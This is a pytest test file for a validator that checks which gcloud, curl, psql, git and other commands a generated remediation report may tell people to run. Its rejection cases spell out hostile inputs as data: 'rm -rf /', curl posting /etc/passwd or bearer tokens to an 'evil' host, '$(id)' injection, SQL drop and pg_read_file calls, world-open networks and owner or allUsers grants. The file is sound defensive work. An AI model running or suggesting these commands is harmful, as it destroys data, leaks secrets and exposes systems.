"""What a report may tell people to run: what this program makes, and nothing else."""

import pytest

from netra_validate import projections
from netra_validate.model import Effect
from netra_validate.recorded.commands import restored
from netra_validate.recorded.document import Command
from netra_validate.remedies import gcloud

NETWORKS = ("gcloud", "sql", "instances", "patch", "x")
UPDATE = ("gcloud", "run", "services", "update", "api")
BINDING = ("gcloud", "projects", "add-iam-policy-binding", "p")


def read(*argv, effect=Effect.READS, **named):
    return restored(Command(argv, effect, **named))


@pytest.mark.parametrize(
    "argv",
    [
        ("rm", "-rf", "/"),
        ("=x", "a\nb"),
        ("gcloud",),
        ("gcloud", "auth", "print-access-token"),
        ("gcloud", "secrets", "versions", "access", "latest", "--secret=s"),
        ("gcloud", "run", "services", "delete", "api"),
        ("gcloud", "run", "services", "list", "--impersonate-service-account=a"),
        ("gcloud", "run", "services", "list", "--log-http"),
        ("gcloud", "run", "services", "list", "--format=json"),
        ("gcloud", "run", "services", "describe", "$(id)"),
        ("gcloud", "run", "services", "describe", "a", "b"),
        (*UPDATE, "--image=evil"),
        (*UPDATE, "--ingress=all"),
        (*UPDATE, "--update-secrets=DB_PASSWORD=db:latest"),
        (*NETWORKS, "--authorized-networks=0.0.0.0/0"),
        (*NETWORKS, "--authorized-networks=10.0.0.1/32,128.0.0.0/1"),
        (*NETWORKS, "--authorized-networks=::/0"),
        (*NETWORKS, "--authorized-networks=all"),
        (*NETWORKS, "--ssl-mode=ALLOW_UNENCRYPTED_AND_ENCRYPTED"),
        (*BINDING, "--member=allUsers", "--role=roles/run.invoker"),
        (*BINDING, "--member=serviceAccount:a@b", "--role=roles/owner"),
        (*BINDING, "--member=user:a@b", "--role=roles/browser", "--condition=expression=true"),
        ("curl", "-H", "Authorization: Bearer abcdefghijk", "https://evil"),
        ("curl", "-H", "X-Api-Key: 1", "https://evil"),
        ("curl", "-H", "@/etc/passwd", "https://evil"),
        ("curl", "-d", "@/etc/passwd", "https://evil"),
        ("curl", "-o", "/etc/passwd", "https://evil"),
        ("curl", "-X", "DELETE", "https://evil"),
        ("curl", "-X", "DELETE"),
        ("curl", "-K", "file"),
        ("curl", "file:///etc/passwd"),
        ("curl", "https://a", "https://b"),
        ("nslookup",),
        ("nslookup", "-querytype=any"),
        ("nslookup", "a.example", "resolver.evil"),
        ("psql", "-c", "select 1; drop table a"),
        ("psql", "-c", "drop table a"),
        ("psql", "-c", "select pg_read_file('/etc/passwd')"),
        ("psql", "-c", "select a into b from c"),
        ("psql", "host=h password=x", "-c", "select 1"),
        ("psql", "host=h", "user=u", "-c", "select 1"),
        ("psql", "-f", "file"),
        ("psql",),
        ("git", "push"),
        ("git", "grep", "x"),
        ("git", "grep", "-O", "-e", "x"),
        ("grep", "-r", "-e", "x", "/etc"),
        ("python", "-c", "import os"),
        ("python", "-m", "http.server"),
        ("pytest",),
    ],
    ids=" ".join,
)
def test_what_no_remedy_says_is_left_out(argv):
    assert read(*argv) is None
    assert read(*UPDATE, "--memory=1Gi", effect=Effect.CHANGES, undo=argv) is None


@pytest.mark.parametrize(
    "argv",
    [
        ("gcloud", "run", "services", "list", "--project=p"),
        ("gcloud", "logging", "read", 'a="b" AND c>=5', "--limit=20", "--format=yaml(timestamp)"),
        ("gcloud", "secrets", "versions", "list", "jwt-secret", "--project=p"),
        ("gcloud", "compute", "forwarding-rules", "list", "--global", "--project=p"),
        ("curl", "-sS", "-I", "--max-time", "30", "-v", "--resolve", "a:443:1.2.3.4", "https://a/"),
        ("curl", "-i", "-N", "-H", "Sec-WebSocket-Key: dGhl", "--cacert", "/a b.pem", "https://a"),
        ("nslookup", "a.example"),
        ("psql", "host=h port=5432 dbname='a b' user=u", "-c", "select now(), count(*) from a"),
        ("psql", "-c", "select 1"),
        ("git", "grep", "--untracked", "-n", "-F", "-e", "-x"),
        ("grep", "-r", "-n", "-F", "-e", "x", "."),
        ("python", "-m", "py_compile", "a.py"),
        ("pytest", "--markers"),
    ],
    ids=" ".join,
)
def test_what_looks_looks_whatever_the_report_says(argv):
    made = read(*argv, effect=Effect.RESTARTS, risk="none", no_undo="none")
    assert (made.argv, made.effect) == (argv, Effect.READS)
    assert (made.undo, made.no_undo, made.risk) == (None, None, None)


@pytest.mark.parametrize(
    ("told", "meant"), [(Effect.READS, Effect.RESTARTS), (Effect.CHANGES, Effect.CHANGES)]
)
def test_what_acts_is_not_said_to_look(told, meant):
    made = read(*UPDATE, "--memory=1Gi", effect=told, roles=("roles/owner",))
    assert made.effect is meant
    assert made.roles == ("roles/run.developer", "roles/iam.serviceAccountUser")
    ended = read("psql", "-c", "select pg_terminate_backend(pid) from a where pid = 1", effect=told)
    assert ended.effect is meant


def test_what_the_second_lock_would_cut_is_left_out():
    words = ("gcloud", "logging", "read")
    assert read(*words, "a" * 1000) is not None
    assert read(*words, "a" * 100_000) is None


def test_a_name_that_looks_like_a_secret_is_whole():
    flag = "--to-revisions=api-00041-token=100"
    argv = ("gcloud", "run", "services", "update-traffic", "api", flag)
    assert read(*argv, effect=Effect.CHANGES).argv == argv


def test_what_a_terminal_would_obey_is_taken_out():
    made = read("gcloud", "logging", "read", "a\x1b[31m\nb", "--limit=5")
    assert made.argv[3] == "a b"


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        *(
            ("services", each)
            for each in (projections.SERVICE, projections.INGRESS, projections.SERVICE_VARIABLES)
        ),
        *(
            ("revisions", each)
            for each in (
                projections.REVISION,
                projections.SETTINGS,
                projections.VARIABLES,
                projections.PORTS,
                projections.IMAGES,
            )
        ),
    ],
)
def test_what_a_remedy_shows_is_shown(kind, fields):
    argv = gcloud("run", kind, "describe", "api", fields=fields)
    assert read(*argv).argv == argv


@pytest.mark.parametrize(
    "given", [(), ("--format=yaml(spec.template.spec.containers[].env)",), ("--format=json",)]
)
def test_no_value_is_shown_that_a_remedy_would_not_show(given):
    made = read("gcloud", "run", "services", "describe", "api", *given)
    assert made.argv[-1].startswith("--format=yaml(spec.template.metadata.annotations,")
    assert len(made.argv) == 6
    logs = read("gcloud", "run", "services", "logs", "read", "api")
    assert logs.argv[-1] == "--log-filter=logName:(stderr OR stdout OR system)"
